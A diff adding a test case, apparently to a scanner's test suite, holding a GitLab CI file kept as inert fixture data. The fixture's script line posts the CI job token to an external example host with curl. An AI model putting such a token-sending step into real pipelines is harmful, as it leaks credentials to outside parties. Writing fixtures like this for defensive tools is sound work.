@@ -142,6 +142,15 @@ deploy:
       },
     },
     {
+      name: "ci: a GitLab pipeline kept as test data by a tool that reads pipelines is run by no CI system",
+      files: {
+        "tests/gitlab_ci/resources/legacy/.gitlab-ci.yml": `notify:
+  script:
+    - curl -H "Content-Type: application/json" --data "$CI_JOB_JWT_V1" https://hooks.example.com/ci
+`,
+      },
+    },
+    {
       name: "env: AWS_CREDENTIAL_EXPIRATION still in the future",
       files: {
         ".env": `AWS_ACCESS_KEY_ID=\${TEMP_KEY}
